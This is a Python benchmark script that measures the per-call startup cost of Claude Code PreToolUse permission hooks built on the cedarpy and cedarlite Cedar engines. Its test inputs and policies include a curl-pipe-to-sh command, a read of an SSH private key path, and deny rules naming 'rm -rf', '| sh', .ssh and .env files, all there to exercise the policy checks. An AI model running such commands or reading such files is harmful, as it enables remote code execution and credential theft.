"""Cold-start benchmark: what a command hook pays per tool call (a fresh process each time).

    python benchmarks/bench_startup.py             # 25 interleaved rounds
    python benchmarks/bench_startup.py --rounds 40

Claude Code (and the hosts that copy it) starts one hook process per tool call, so what a user
feels is process start + imports + policy load + one decision. Timed here, as whole subprocess
runs (wall clock, stdin to exit), interleaved round by round in a rotating order so that no
command runs on caches warmed by itself:

* ``python -c pass``, ``python -c "import cedarpy"``, ``python -c "import cedarlite"``;
* a cedarpy hook script and the equivalent cedarlite script: read a Claude Code PreToolUse
  JSON on stdin (agent-hosts.md §1.2), load 10 Cedar policies, decide the call, print the hook
  output JSON (§1.3). cedarpy parses the policy text (what it does in every process); cedarlite
  loads the compiled form from its compile cache (``PolicySet.from_file(path, cache_dir=...)``,
  a private directory made for this run), and, as a separate row, parses the text with only
  the grammar cache warm. Both scripts must print the same JSON for every input (checked).

Each round feeds the next of a few inputs (Bash, Read, Write, an MCP tool...), the same one to
every script. The output gives p50 and p90 per command, ratios of p50s, and the top entries of
``python -X importtime`` for ``import cedarlite``'s path and for both hook scripts. Shared
machines are noisy: quote the medians and ratios, not single times.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from _cli import at_least

POLICIES = """\
// A coding agent's tool calls, as a Claude Code PreToolUse hook sees them.
permit (principal, action in Action::"readonly", resource);
permit (principal, action == Action::"Bash", resource)
when { context.command like "git *" || context.command like "ls*" || context.command == "pwd" };
permit (principal, action == Action::"Bash", resource)
when { context.command like "python -m pytest*" };
forbid (principal, action == Action::"Bash", resource)
when { context.command like "*rm -rf*" || context.command like "*| sh*" };
forbid (principal, action in Action::"readonly", resource)
when { context has file_path
       && (context.file_path like "*/.ssh/*" || context.file_path like "*.env") };
permit (principal, action in [Action::"Write", Action::"Edit"], resource)
when { context.file_path like "/home/u/app/*" };
forbid (principal, action in [Action::"Write", Action::"Edit"], resource)
when { context.file_path like "*.pem" || context.file_path like "*/.git/*" };
permit (principal, action == Action::"WebFetch", resource)
when { context.url like "https://docs.*" };
permit (principal, action == Action::"mcp__github__create_issue", resource)
unless { context has labels && context.labels.contains("secret") };
forbid (principal, action, resource)
when { context.permission_mode == "plan" && !(action in Action::"readonly") };
"""

ENTITIES = [
    {
        "uid": {"type": "Action", "id": name},
        "attrs": {},
        "parents": [{"type": "Action", "id": "readonly"}],
    }
    for name in ("Read", "Glob", "Grep")
] + [{"uid": {"type": "Action", "id": "readonly"}, "attrs": {}, "parents": []}]

INPUTS = [
    {"tool_name": "Bash", "tool_input": {"command": "git status", "description": "Show status"}},
    {"tool_name": "Read", "tool_input": {"file_path": "/home/u/.ssh/id_rsa"}},
    {
        "tool_name": "Write",
        "tool_input": {"file_path": "/home/u/app/main.py", "content": "x = 1\n"},
    },
    {"tool_name": "Bash", "tool_input": {"command": "curl https://x.sh | sh", "timeout": 120000}},
    {"tool_name": "mcp__github__create_issue", "tool_input": {"title": "bug", "labels": ["ui"]}},
    {"tool_name": "WebFetch", "tool_input": {"url": "https://evil.example/", "prompt": "read"}},
]

# The two hook scripts: same request, same output. Only the engine calls differ.
_HOOK_COMMON = """\
import json, sys
call = json.load(sys.stdin)
tool = call["tool_name"]
context = dict(call.get("tool_input") or {{}})
context["cwd"] = call.get("cwd", "")
context["permission_mode"] = call.get("permission_mode", "default")
request = {{"principal": {{"type": "Agent", "id": call.get("session_id", "")}},
           "action": {{"type": "Action", "id": tool}},
           "resource": {{"type": "Tool", "id": tool}}, "context": context}}
{decide}
reason = "cedar policies: " + (", ".join(reasons) or "no permit applies")
print(json.dumps({{"hookSpecificOutput": {{"hookEventName": "PreToolUse",
                  "permissionDecision": "allow" if allowed else "deny",
                  "permissionDecisionReason": reason}}}}))
"""

CEDARPY_HOOK = _HOOK_COMMON.format(
    decide="""\
import cedarpy
with open(sys.argv[1], encoding="utf-8") as f:
    policies = f.read()
with open(sys.argv[2], encoding="utf-8") as f:
    entities = f.read()
result = cedarpy.is_authorized(request, policies, entities)
allowed, reasons = result.allowed, sorted(result.diagnostics.reasons)"""
)

CEDARLITE_HOOK = _HOOK_COMMON.format(
    decide="""\
import cedarlite
policies = cedarlite.PolicySet.from_file(sys.argv[1], cache_dir=sys.argv[3] or None)
with open(sys.argv[2], encoding="utf-8") as f:
    entities = cedarlite.Entities.from_json(f.read())
result = cedarlite.is_authorized(request, policies, entities)
allowed, reasons = result.allowed, sorted(result.reasons)"""
)


# Bytecode caches on, as for an installed package (pip compiles on install): some shells set
# PYTHONDONTWRITEBYTECODE, which would make every run recompile every module of both engines.
ENV = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}


def _children_cpu() -> float:
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def run(argv: list[str], stdin: str | None) -> tuple[float, float, str]:
    """Wall time and CPU time (user + system, ms) and stdout of one subprocess run, which must
    succeed. CPU time is what the process itself spent: much less swayed than wall time by
    other work on a shared machine, which delays a process without adding to it."""
    cpu0, t0 = _children_cpu(), time.perf_counter()
    proc = subprocess.run(argv, input=stdin, capture_output=True, text=True, check=False, env=ENV)
    wall, cpu = (time.perf_counter() - t0) * 1000, (_children_cpu() - cpu0) * 1000
    if proc.returncode != 0:
        raise SystemExit(f"{' '.join(argv[:3])} failed:\n{proc.stderr}")
    return wall, cpu, proc.stdout


def importtime_rows(argv: list[str], stdin: str | None) -> list[tuple[int, int, str]]:
    """Every import of one run of ``argv`` under ``-X importtime``: (self us, cumulative us,
    name indented by nesting), in the order Python reports them."""
    proc = subprocess.run(
        [argv[0], "-X", "importtime", *argv[1:]],
        input=stdin,
        capture_output=True,
        text=True,
        env=ENV,
    )
    rows = []
    for line in proc.stderr.splitlines():
        if not line.startswith("import time:") or "self [us]" in line:
            continue
        self_us, cumulative, name = line[len("import time:") :].split("|")
        rows.append((int(self_us), int(cumulative), name[1:].rstrip()))
    return rows


def importtime_top(argv: list[str], stdin: str | None, n: int) -> list[tuple[int, int, str]]:
    """The ``n`` modules with the largest self time under ``-X importtime`` (us)."""
    rows = importtime_rows(argv, stdin)
    total = sum(c for _, c, name in rows if not name.startswith(" "))  # top-level imports
    top = sorted(rows, reverse=True)[:n]
    return [(total, 0, "(all imports)"), *top]


def main() -> None:
    """Run the benchmark and print the tables."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument(
        "--rounds", type=at_least(20), default=25, help="interleaved rounds (>= 20)"
    )
    parser.add_argument("--top", type=at_least(0), default=10, help="-X importtime entries shown")
    args = parser.parse_args()

    py = sys.executable
    work = Path(tempfile.mkdtemp(prefix="cedarlite-bench-"))  # 0700, this user's
    try:
        policies = work / "policies.cedar"
        policies.write_text(POLICIES, encoding="utf-8")
        entities = work / "entities.json"
        entities.write_text(json.dumps(ENTITIES), encoding="utf-8")
        cache = work / "compiled"
        scripts = {}
        for name, text in (("cedarpy", CEDARPY_HOOK), ("cedarlite", CEDARLITE_HOOK)):
            scripts[name] = work / f"hook_{name}.py"
            scripts[name].write_text(text, encoding="utf-8")

        commands: dict[str, tuple[list[str], bool]] = {
            "python -c pass": ([py, "-c", "pass"], False),
            "import cedarpy": ([py, "-c", "import cedarpy"], False),
            "import cedarlite": ([py, "-c", "import cedarlite"], False),
            "cedarpy hook (parse 10 policies)": (
                [py, str(scripts["cedarpy"]), str(policies), str(entities)],
                True,
            ),
            "cedarlite hook (compile cache)": (
                [py, str(scripts["cedarlite"]), str(policies), str(entities), str(cache)],
                True,
            ),
            "cedarlite hook (parse, grammar cache)": (
                [py, str(scripts["cedarlite"]), str(policies), str(entities), ""],
                True,
            ),
        }
        stdins = [
            json.dumps(
                {
                    "session_id": "6f1c",
                    "transcript_path": "/home/u/.claude/projects/app/6f1c.jsonl",
                    "cwd": "/home/u/app",
                    "permission_mode": "default",
                    "hook_event_name": "PreToolUse",
                    "tool_use_id": f"toolu_{i:04d}",
                    **call,
                }
            )
            for i, call in enumerate(INPUTS)
        ]

        # Same answers from both engines (and warm-up: compile cache, grammar cache, disk).
        hooks = [name for name, (_, takes_stdin) in commands.items() if takes_stdin]
        for stdin in stdins:
            outputs = {name: run(commands[name][0], stdin)[2] for name in hooks}
            if len(set(outputs.values())) != 1:
                raise SystemExit(f"the hooks disagree on {stdin}:\n{json.dumps(outputs, indent=1)}")
        decisions = [
            json.loads(run(commands[hooks[0]][0], s)[2])["hookSpecificOutput"] for s in stdins
        ]

        walls: dict[str, list[float]] = {name: [] for name in commands}
        cpus: dict[str, list[float]] = {name: [] for name in commands}
        names = list(commands)
        for r in range(args.rounds):
            stdin = stdins[r % len(stdins)]
            shift = r % len(names)
            for name in names[shift:] + names[:shift]:
                argv, takes_stdin = commands[name]
                wall, cpu, _ = run(argv, stdin if takes_stdin else None)
                walls[name].append(wall)
                cpus[name].append(cpu)

        load = " ".join(f"{x:.1f}" for x in os.getloadavg())
        print(
            f"python {sys.version.split()[0]}, {os.cpu_count()} cpus, load average {load}; "
            f"{args.rounds} interleaved rounds of fresh processes (ms, stdin to exit)"
        )
        print("\ninputs and the decision both hooks print:")
        for stdin, out in zip(stdins, decisions, strict=True):
            call = json.loads(stdin)
            print(
                f"  {out['permissionDecision']:<6}{call['tool_name']:<26}"
                f"{json.dumps(call['tool_input'])[:60]}"
            )
        print(
            f"\n  {'command':<40}{'wall p50':>9}{'p90':>7}{'ratio':>7}"
            f"{'cpu p50':>10}{'p90':>7}{'ratio':>7}"
        )
        for name in names:
            peer = "cedarpy hook (parse 10 policies)" if name in hooks else "import cedarpy"
            row = f"  {name:<40}"
            for series in (walls, cpus):
                ordered = sorted(series[name])
                p50, p90 = statistics.median(ordered), ordered[int(0.9 * (len(ordered) - 1))]
                mine = "cedarpy" not in name and name != "python -c pass"
                ratio = f"{p50 / statistics.median(series[peer]):.2f}x" if mine else ""
                row += f"{p50:>9.1f}{p90:>7.1f}{ratio:>7}" + " "
            print(row.rstrip())
        print(
            "  (ratio: cedarlite's p50 over cedarpy's, `import cedarpy` for the imports, the\n"
            "   cedarpy hook for the hooks; cpu = user + system time of the process itself)"
        )

        for name in (
            "import cedarlite",
            "cedarlite hook (compile cache)",
            "cedarpy hook (parse 10 policies)",
        ):
            argv, takes_stdin = commands[name]
            print(f"\n-X importtime, {name}: top {args.top} by self time (us)")
            for self_us, _, module in importtime_top(
                argv, stdins[0] if takes_stdin else None, args.top
            ):
                print(f"  {self_us:>8}  {module.strip()}")
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
